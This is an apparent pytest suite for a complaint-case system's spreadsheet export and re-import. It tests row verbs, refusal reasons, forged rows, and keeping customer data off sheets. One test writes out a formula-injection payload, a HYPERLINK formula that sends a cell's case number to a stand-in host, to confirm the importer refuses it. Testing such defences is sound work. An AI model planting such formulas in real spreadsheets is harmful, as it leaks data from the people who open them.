"""A worksheet does, row by row, what the page would have done, once; refusals come back with the reason."""

from datetime import datetime, timedelta

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from suyuan.actions import worksheets
from suyuan.actions.perform import perform
from suyuan.domain.errors import BadInput
from suyuan.gateways.worksheet import read
from suyuan.gateways.worksheet.book import address
from suyuan.store import chain, fingerprint
from suyuan.store.models import Case, Event
from suyuan.store.queries import viewer
from tests.factories import NOW, actor, case_at, do, person
from tests.worksheet_files import OPEN, at, bring, changed, fill, outcomes, result_of, taken

pytestmark = pytest.mark.django_db
DISPATCH = {"verb": "派单", "field:unit": "东城供电所", "field:specialty": "营销"}


def states():
    """Return every case's state by number."""
    return dict(Case.objects.order_by("number").values_list("number", "state"))


def test_a_worksheet_holds_the_cases_with_what_their_verbs_ask(tmp_path):
    one = case_at("registered")
    case_at("archived")

    handed = read(taken(tmp_path, verb="dispatch"))

    assert list(handed.keys) == [
        "row",
        "number",
        "business_type",
        "state",
        "unit",
        "accepted_at",
        "due",
        "brief",
        "verb:dispatch",
        "field:unit",
        "field:specialty",
        "field:note",
        "field:accused_unit",
        "outcome",
    ]
    assert list(handed.titles)[1:8] == [
        "工单编号",
        "业务类型",
        "状态",
        "供电单位",
        *("受理时间", "到期", "受理内容"),
    ]
    assert handed.titles[9:12] == ["供电单位 *", "责任专业 *", "说明"]
    assert [row.cells[1] for row in handed.rows] == [one.number]
    assert handed.rows[0].cells[2:5] == ["投诉", "已登记", "溯源市供电公司"]


def test_nothing_on_a_worksheet_leads_to_the_customer(tmp_path):
    case_at("registered")

    cells = [str(cell) for row in read(taken(tmp_path)).rows for cell in row.cells]

    assert [
        text for text in cells if "13912345678" in text or "3300012345678" in text or "张三丰" in text
    ] == []


def test_taking_one_out_is_an_event_that_names_the_cases(tmp_path):
    case = case_at("registered")
    taken(tmp_path, verb="dispatch")

    event = Event.objects.get(verb="worksheet_export")
    code = event.detail.pop("code")
    assert (event.actor, event.detail, len(code)) == ("office", {"verb": "dispatch", "cases": 1}, 10)
    assert event.objects_json == [["export", code], ["case", case.number]]


def test_each_filled_row_does_its_verb_and_empty_rows_are_left(tmp_path):
    first, second = case_at("registered"), case_at("registered")
    path = fill(taken(tmp_path), {}, DISPATCH | {"field:note": "请尽快"})
    numbers = [row.cells[1] for row in read(path).rows]

    summary = bring(path)

    assert outcomes(summary) == [("", ""), ("applied", "")]
    assert states()[numbers[1]] == "dispatched"
    assert states()[numbers[0]] == "registered"
    assert {first.number, second.number} == set(numbers)
    event = Event.objects.get(verb="dispatch", stream=f"case:{numbers[1]}")
    assert event.actor == "office"
    assert event.detail["form_mark"] == fingerprint.read(read(path).rows[1].cells[0], numbers[1]).signature
    assert chain.verify()[0] > 0


def test_a_row_may_pick_any_verb_open_to_whoever_brings_it(tmp_path):
    case_at("registered"), case_at("handling")
    path = taken(tmp_path)
    states_of = [row.cells[3] for row in read(path).rows]
    asks = {"已登记": DISPATCH, "处理中": {"verb": "催办", "field:note": "客户又来电"}}

    assert outcomes(bring(fill(path, *(asks[state] for state in states_of)))) == [("applied", "")] * 2


def test_the_same_file_again_applies_nothing(tmp_path):
    case_at("registered")
    path = fill(taken(tmp_path), DISPATCH)
    bring(path)
    events = Event.objects.exclude(verb="worksheet_apply").count()

    again = bring(path)
    third = bring(path.with_name("filled-result.xlsx"))

    assert outcomes(again) == outcomes(third) == [("already", "form_used")]
    assert again.rows[0].facts["by"] == "office"
    assert Event.objects.exclude(verb="worksheet_apply").count() == events


def test_an_upload_cut_off_goes_on_where_it_stopped(tmp_path):
    for _ in range(3):
        case_at("registered")
    path = fill(taken(tmp_path), DISPATCH, DISPATCH, DISPATCH)
    handed = read(path)
    number = handed.rows[0].cells[1]
    form = {"unit": "0101", "specialty": "marketing"}
    seen = fingerprint.read(handed.rows[0].cells[0], number)
    perform(number=number, verb="dispatch", actor=actor("office"), now=NOW, form=form, seen=seen)

    assert [row.outcome for row in bring(path).rows] == ["already", "applied", "applied"]


def test_a_case_that_moved_on_is_refused_once_with_what_happened(tmp_path):
    case = case_at("registered")
    path = fill(taken(tmp_path), {"verb": "补充记录", "field:note": "已核对"}, own="我的备注")
    do(case, "urge", "lead", NOW + timedelta(minutes=20), note="客户催")

    later = NOW + timedelta(minutes=30)
    first = bring(path, now=later)
    second = bring(path.with_name("filled-result.xlsx"), now=later)

    assert outcomes(first) == [("refused", "moved_on")]
    assert first.rows[0].facts["since"] == [
        {"verb": "urge", "at": "2026-03-04T02:50:00+00:00", "by": "lead", "state": "registered"}
    ]
    told = result_of(path)
    assert "2026-03-04 10:50 lead 催办" in told.rows[0].cells[at(told, "outcome")]
    assert outcomes(second) == [("applied", "")]


def test_a_clocks_warning_makes_no_row_out_of_date(tmp_path):
    case = case_at("registered")
    path = fill(taken(tmp_path), DISPATCH)
    chain.append(stream=f"case:{case.number}", at=NOW, actor="system", verb="rung", detail={})

    assert outcomes(bring(path)) == [("applied", "")]


def test_refused_rows_come_back_in_place_with_the_reason_and_the_offices_own_columns(tmp_path):
    case_at("registered"), case_at("registered")
    path = fill(
        taken(tmp_path, verb="dispatch"), {"verb": "派单", "field:unit": "东城供电所"}, DISPATCH, own="备注"
    )

    summary = bring(path)

    assert [(row.outcome, row.code, row.cells) for row in summary.rows] == [
        ("refused", "bad_form", {"K4": "required"}),
        ("applied", "", {}),
    ]
    back = result_of(path)
    assert list(back.keys) == list(read(path).keys)
    assert [row.cells[-1] for row in back.rows] == ["备注0", "备注1"]
    said = [row.cells[at(back, "outcome")] for row in back.rows]
    assert said == ["退回：表单有误\nK4 责任专业：必填", "已办理：派单 → 已派单"]
    corrected = fill(path.with_name("filled-result.xlsx"), {"field:specialty": "营销"}, name="corrected.xlsx")
    assert outcomes(bring(corrected)) == [("applied", ""), ("already", "form_used")]


@pytest.mark.parametrize(
    ("cells", "code", "wrong"),
    [
        (DISPATCH | {"verb": "烧水"}, "unknown_verb", ["verb"]),
        (DISPATCH | {"verb": "归档"}, "not_from_here", []),
        (DISPATCH | {"field:unit": "不存在的所"}, "bad_form", ["field:unit"]),
        (DISPATCH | {"field:specialty": "9"}, "bad_form", ["field:specialty"]),
        (DISPATCH | {"verb": ""}, "verb_missing", ["verb"]),
        (DISPATCH | {"field:reason:void": "重复登记"}, "bad_form", ["field:reason:void"]),
        (DISPATCH | {"field:note": 10**16}, "bad_form", ["field:note"]),
        (DISPATCH | {"field:note": "字" * 20_001}, "bad_form", ["field:note"]),
        (DISPATCH | {"number": "SY20260304009999"}, "row_forged", ["number"]),
        (DISPATCH | {"row": "1.complaint.1.registered.000000000000000000000000"}, "row_forged", ["number"]),
        (DISPATCH | {"row": ""}, "row_not_ours", ["number"]),
        ({"verb": "登记", "field:business_type": "投诉"}, "not_from_here", []),
    ],
)
def test_a_row_that_cannot_be_done_names_its_cells(tmp_path, cells, code, wrong):
    case_at("registered")
    path = fill(taken(tmp_path), cells)
    handed = read(path)

    (row,) = bring(path).rows

    assert (row.outcome, row.code) == ("refused", code)
    assert sorted(row.wrong) == sorted(at(handed, key) for key in wrong)
    assert set(states().values()) == {"registered"}


def test_a_row_moved_to_another_case_is_not_believed(tmp_path):
    case_at("registered"), case_at("registered")
    path = taken(tmp_path)
    first, second = (row.cells for row in read(path).rows)

    swapped = fill(path, DISPATCH | {"row": second[0]}, DISPATCH | {"row": first[0]})

    assert outcomes(bring(swapped)) == [("refused", "row_forged")] * 2


def test_the_same_row_twice_counts_once(tmp_path):
    case_at("registered"), case_at("registered")
    path = taken(tmp_path)
    first = read(path).rows[0].cells

    twice = fill(path, DISPATCH, DISPATCH | {"row": first[0], "number": first[1]})

    assert outcomes(bring(twice)) == [("applied", ""), ("refused", "row_twice")]


def test_a_formula_is_named_and_never_worked_out(tmp_path):
    case_at("registered")
    path = fill(taken(tmp_path, verb="dispatch"), DISPATCH | {"field:note": "记"})
    cell = r'<c r="L4"[^>]*>.*?</c>'
    formula = '<c r="L4" t="str"><f>HYPERLINK("http://x/"&amp;B4)</f><v>记</v></c>'

    (row,) = bring(changed(path, "xl/worksheets/sheet1.xml", cell, formula)).rows

    assert (row.outcome, row.cells) == ("refused", {"L4": "formula_cell"})


@pytest.mark.parametrize(
    ("verb", "filled", "formula_at"),
    [
        ("dispatch", DISPATCH, "field:note"),
        ("dispatch", {name: DISPATCH[name] for name in ("field:unit", "field:specialty")}, "field:note"),
        ("dispatch", DISPATCH, "verb"),
        ("dispatch", DISPATCH | {"verb": "备注"}, "field:note"),
        ("", DISPATCH, "field:note"),
        ("", DISPATCH, "row"),
        ("note", {}, "field:note"),
    ],
)
def test_what_a_refused_formula_shows_is_not_applied_the_next_time(tmp_path, verb, filled, formula_at):
    """However often the result is brought in unchanged; put right, the row is done."""
    case = case_at("registered")
    path = taken(tmp_path, verb=verb)
    before = read(path)
    shown = before.rows[0].cells[0] if formula_at == "row" else "派单" if formula_at == "verb" else "2"
    path = fill(path, filled | {formula_at: "formula"})
    place = address(4, at(before, formula_at))
    cell = rf'<c r="{place}"[^>]*>.*?</c>'
    formula = f'<c r="{place}" t="str"><f>1+1</f><v>{shown}</v></c>'
    path = changed(path, "xl/worksheets/sheet1.xml", cell, formula)

    for times in range(3):
        (row,) = bring(path).rows
        assert (times, row.outcome) == (times, "refused")
        path = path.with_name(f"{path.stem}-result.xlsx")
        (came,) = read(path).rows
        empty = "请重新选择" if formula_at == "verb" else ""
        assert (came.cells[at(before, formula_at)], came.formulas) == (empty, frozenset())

    case.refresh_from_db()
    assert (case.state, case.notes.filter(field="note").count()) == ("registered", 0)
    if formula_at != "row":
        again = {"verb": "", "field:note": "记"} if verb else {"verb": "派单", "field:note": "记"}
        assert outcomes(bring(fill(path, again))) == [("applied", "")]


def test_a_text_that_begins_like_a_formula_stays_a_text(tmp_path):
    case = case_at("handling")
    path = fill(taken(tmp_path, verb="note"), {"field:note": "=1+1，@户主"})

    assert outcomes(bring(path)) == [("applied", "")]
    assert case.notes.filter(field="note").get().masked == "=1+1，@户主"


def test_a_row_is_done_as_whoever_brings_it_back(tmp_path):
    case_at("registered")
    path = fill(taken(tmp_path), DISPATCH)

    assert outcomes(bring(path, role="station")) == [("refused", "not_found")]


def test_words_of_the_other_language_and_codes_are_understood(tmp_path):
    case_at("registered"), case_at("registered")
    path = fill(
        taken(tmp_path),
        {"verb": "Dispatch", "field:unit": "0101", "field:specialty": "Marketing"},
        {"verb": "dispatch", "field:unit": "　东城供电所", "field:specialty": "marketing"},
    )

    assert outcomes(bring(path)) == [("applied", "")] * 2


@pytest.mark.parametrize(
    ("typed", "hour"),
    [
        (datetime(2026, 3, 4, 10, 35), 2),  # noqa: DTZ001 a cell knows no zone
        ("2026-03-04 10:35", 2),
        ("2026/3/4 10:35", 2),
        ("2026年3月4日 10:35", 2),
        ("昨天", None),
        (True, None),
    ],
)
def test_moments_are_read_as_people_write_them(tmp_path, typed, hour):
    case = case_at("handling")
    cells = {"verb": "联系客户", "field:reached": "是", "field:contact_note": "已联系", "field:at": typed}
    path = fill(taken(tmp_path, role="station"), cells)

    (row,) = bring(path, role="station", now=NOW + timedelta(hours=1)).rows

    case.refresh_from_db()
    if hour is None:
        assert (row.code, list(row.cells.values())) == ("bad_form", ["not_a_moment"])
    else:
        assert (row.outcome, case.contacted_at.isoformat()) == ("applied", "2026-03-04T02:35:00+00:00")


def test_too_wide_a_list_is_refused_before_anything_is_written(tmp_path, monkeypatch):
    case_at("registered"), case_at("registered")
    monkeypatch.setattr("suyuan.actions.worksheets.take_out.MOST_ROWS", 1)

    with pytest.raises(BadInput) as refused:
        taken(tmp_path)

    assert (refused.value.code, refused.value.facts) == ("too_many_cases", {"limit": 1})
    assert list(tmp_path.iterdir()) == []


def test_an_unknown_verb_takes_nothing_out(tmp_path):
    with pytest.raises(BadInput) as refused:
        taken(tmp_path, verb="boil")
    assert refused.value.code == "unknown_verb"


CELLS = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_characters="\r"), max_size=40),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.datetimes(),
    st.sampled_from(["派单", "dispatch", "东城供电所", "营销", "=1", "'=1", "　", "是"]),
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@example(cells={"verb": 1.7976931348623157e308})  # written in sixteen digits, it is read as infinite
@given(cells=st.dictionaries(st.sampled_from(["verb", "field:unit", "field:specialty", "field:note"]), CELLS))
def test_whatever_stands_in_the_cells_a_row_is_done_or_refused_by_name(tmp_path, cells):
    case = case_at("registered")
    path = tmp_path / "fuzz.xlsx"
    who = viewer.of(person("office"))
    worksheets.export(
        path=path, viewer=who, filters=OPEN.but(numbers=(case.number,)), verb="dispatch", now=NOW
    )

    (row,) = bring(fill(path, cells)).rows

    case.refresh_from_db()
    assert row.outcome in ("applied", "refused", "")
    assert (case.state == "dispatched") == (row.outcome == "applied")
    assert (row.outcome == "refused") == bool(row.code)
    if row.outcome == "applied":
        assert (case.unit.code, case.specialty) == ("0101", "marketing")


def test_the_mark_of_a_case_says_how_it_stood():
    case = case_at("registered")
    mark = fingerprint.of(case)

    seen = fingerprint.read(mark, case.number)

    assert (seen.event, seen.procedure, seen.version, seen.state) == (
        case.changed_event,
        "complaint",
        case.version,
        "registered",
    )
    assert fingerprint.read(mark, f"{case.number}0") is None
    assert fingerprint.read(mark.replace("registered", "received"), case.number) is None
    assert fingerprint.read("", case.number) is None
